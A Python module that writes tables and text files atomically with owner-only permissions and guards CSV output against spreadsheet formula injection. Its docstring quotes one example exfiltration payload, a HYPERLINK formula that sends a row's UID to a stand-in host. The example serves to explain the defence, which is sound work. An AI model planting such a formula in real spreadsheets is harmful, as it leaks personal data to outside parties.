"""Atomic file writes: a reader sees the old file or the new one, never half of one.

Every CSV SRDH writes goes through ``spreadsheet_safe`` (``write_table_atomic`` applies
it): a text cell that starts with ``= + - @``, a tab or a carriage return is a formula
to Excel or LibreOffice (``=HYPERLINK("http://x/?"&B2)`` sends the row's UID away), so
it gets a leading ``'`` (OWASP's advice for CSV injection). Numeric columns are left
alone (a negative match weight stays a number); ``spreadsheet_unsafe`` undoes the guard
when SRDH reads its own CSV back (the review import).
"""

from __future__ import annotations

import hashlib
import os
import re
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.csv as pacsv
import pyarrow.parquet as pq

from core.paths import PRIVATE_FILE

# A leading formula character, after any quotes the guard added before (so a value that
# itself starts with "'=" survives the round trip: it is written "''=" and read "'=").
FORMULA_START = r"^'*[=+\-@\t\r]"
_GUARDED = re.compile(r"^'+[=+\-@\t\r]")


def spreadsheet_safe_text(value: str) -> str:
    """``value`` with a leading ``'`` if a spreadsheet would read it as a formula."""
    return "'" + value if re.match(FORMULA_START, value) else value


def spreadsheet_unsafe(value: str) -> str:
    """Undo ``spreadsheet_safe_text`` (for SRDH's own CSVs read back in)."""
    return value[1:] if _GUARDED.match(value) else value


def spreadsheet_safe(table: pa.Table) -> pa.Table:
    """``table`` with every text cell passed through ``spreadsheet_safe_text``."""
    for i, field in enumerate(table.schema):
        col = table.column(i)
        if pa.types.is_dictionary(field.type) and pa.types.is_string(field.type.value_type):
            col = col.cast(pa.string())
        elif not (pa.types.is_string(field.type) or pa.types.is_large_string(field.type)):
            continue
        hit = pc.match_substring_regex(col, FORMULA_START)
        quote, empty = pa.scalar("'", col.type), pa.scalar("", col.type)
        guarded = pc.if_else(hit, pc.binary_join_element_wise(quote, col, empty), col)
        table = table.set_column(i, field.with_type(guarded.type), guarded)
    return table


def spreadsheet_safe_frame(df: Any) -> Any:
    """A pandas DataFrame with ``spreadsheet_safe_text`` applied to its text cells."""
    out = df.copy()
    for c in out.columns:
        if out[c].dtype == object or str(out[c].dtype) in ("str", "string"):
            out[c] = out[c].map(lambda v: spreadsheet_safe_text(v) if isinstance(v, str) else v)
    return out


def write_table_atomic(table: pa.Table, folder: Path, stem: str,
                       formats: tuple[str, ...] = ("csv", "parquet"),
                       mode: int = PRIVATE_FILE) -> dict[str, dict[str, Any]]:
    """Write ``<folder>/<stem>.<fmt>`` via a temporary name, fsync and rename; the file has
    ``mode`` (owner only by default: SRDH's outputs hold personal data) from the start.

    Returns ``{file name: {"path", "rows", "sha256"}}`` for manifests.
    """
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    out = {}
    for ext in formats:
        final = folder / f"{stem}.{ext}"
        tmp = folder / f".{stem}.{ext}.{os.getpid()}.tmp"
        if ext == "csv":
            pacsv.write_csv(spreadsheet_safe(table), tmp)
        elif ext == "parquet":
            pq.write_table(table, tmp)
        else:
            raise ValueError(f"unknown format {ext!r}")
        os.chmod(tmp, mode)
        _fsync(tmp)
        os.replace(tmp, final)
        out[final.name] = {"path": str(final), "rows": table.num_rows, "sha256": sha256(final)}
    return out


def write_text_atomic(path: Path, text: str, mode: int = PRIVATE_FILE) -> None:
    tmp = path.with_name(f".{path.name}.{os.getpid()}.tmp")
    fd = os.open(tmp, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, mode)
    with os.fdopen(fd, "w") as fh:
        fh.write(text)
    os.chmod(tmp, mode)  # an existing tmp keeps its mode through os.open
    _fsync(tmp)
    os.replace(tmp, path)


def sha256(path: Path) -> str:
    h = hashlib.sha256()
    with open(path, "rb") as fh:
        for chunk in iter(lambda: fh.read(1 << 20), b""):
            h.update(chunk)
    return h.hexdigest()


def _fsync(path: Path) -> None:
    with open(path, "rb") as fh:
        os.fsync(fh.fileno())
